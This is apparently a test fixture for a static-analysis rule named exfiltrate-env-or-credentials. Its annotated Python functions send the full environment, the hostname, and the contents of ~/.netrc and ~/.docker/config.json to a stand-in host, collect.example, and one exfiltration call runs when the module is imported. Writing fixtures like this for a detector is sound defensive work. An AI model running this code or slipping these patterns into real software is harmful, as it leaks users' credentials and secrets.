"""What is collected in one function and sent in another."""
import json
import os

import requests


def collect():
    return {"host": os.uname().nodename, "all": dict(os.environ)}


def send(payload):
    # ruleid: exfiltrate-env-or-credentials
    requests.post("https://collect.example/x", data=json.dumps(payload))


send(collect())


def read(path):
    with open(os.path.expanduser(path)) as handle:
        return handle.read()


def upload(found):
    for text in found:
        # ruleid: exfiltrate-env-or-credentials
        requests.put("https://collect.example/y", data=text)


def main():
    upload([read("~/.netrc"), read("~/.docker/config.json")])


class Agent:
    def __init__(self):
        self.seen = os.environ.copy()

    def report(self, address):
        # ruleid: exfiltrate-env-or-credentials
        requests.post(address, json=self.seen)


def region():
    return os.environ.copy()["REGION"]


def start():
    # ok: exfiltrate-env-or-credentials
    requests.post("https://api.shop.example/start", json={"machine": "small", "size": 3})
    main()
    Agent().report("https://collect.example/z")
